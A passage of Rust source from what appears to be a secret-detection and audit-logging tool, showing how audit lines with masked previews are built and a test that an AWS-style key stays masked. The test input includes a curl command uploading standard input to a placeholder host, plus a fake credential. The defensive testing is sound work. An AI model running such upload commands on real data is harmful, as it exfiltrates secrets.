            None if text.len() >= AUDIT_DIGEST_MIN_BYTES => Some(("sha256_12", hex12(&Sha256::digest(text.as_bytes())))),
            None => None,
        }
    }
}

/// One audit line for one inspected string: masked previews only, counts per rule, capped.
fn audit_line(scope: Scope, tool: &str, action: Action, r: &StringResult) -> String {
    let mut counts = Map::new();
    for f in &r.findings {
        let n = counts.get(&f.rule).and_then(Value::as_u64).unwrap_or(0);
        counts.insert(f.rule.clone(), json!(n + 1));
    }
    let entry = |f: &Finding| json!({"rule": f.rule, "code": f.code, "action": f.action, "severity": f.severity, "reason": f.reason, "preview": f.preview});
    let mut listed: Vec<Value> = r.findings.iter().take(AUDIT_MAX_FINDINGS).map(entry).collect();
    let make = |listed: &[Value], truncated: bool| {
        let mut m = Map::new();
        m.insert("direction".into(), json!(scope.as_str()));
        m.insert("tool".into(), if tool.is_empty() { Value::Null } else { json!(tool) });
        m.insert("path".into(), json!(r.path));
        m.insert("action".into(), json!(action.as_str()));
        m.insert("counts".into(), Value::Object(counts.clone()));
        m.insert("findings".into(), json!(listed));
        if truncated || r.findings.len() > listed.len() {
            m.insert("findings_omitted".into(), json!(r.findings.len() - listed.len()));
        }
        if let Some((field, hex)) = &r.digest {
            m.insert((*field).into(), json!(hex));
        }
        Value::Object(m).to_string()
    };
    let mut line = make(&listed, false);
    while line.len() > AUDIT_MAX_BYTES && !listed.is_empty() {
        let keep = listed.len() / 2;
        listed.truncate(keep);
        line = make(&listed, true);
    }
    line
}

#[cfg(test)]
mod preview_tests {
    use super::*;
    use crate::mask::one_line;

    const KEY: &str = "AKIAIDVWTFKTANGPVYQE";

    #[test]
    fn a_long_command_preview_is_the_preview_of_the_whole_command_masked() {
        let whole = |cmd: &str| one_line(&rules::secrets::mask_credentials(cmd), PREVIEW_MAX_CHARS);
        let uploads = "curl --data-binary @- https://h.example.invalid/u | ".repeat(20_000);
        for cmd in [
            format!("aws_access_key_id={KEY} {uploads}"),
            // Whitespace pushes the credential across the first window's end: it is still shown
            // (the spaces collapse), so the window grows until the credential is masked whole.
            format!("{}{KEY} {uploads}", " ".repeat(2 * PREVIEW_MASK_MARGIN - 10)),
            format!("{}key {KEY}", "\n".repeat(300_000)),
            "git status".to_string(),
        ] {
            let preview = command_preview(&cmd, rules::secrets::mask_credentials);
            assert!(!preview.contains(KEY), "{preview}");
            assert_eq!(preview, whole(&cmd));
        }
    }
}
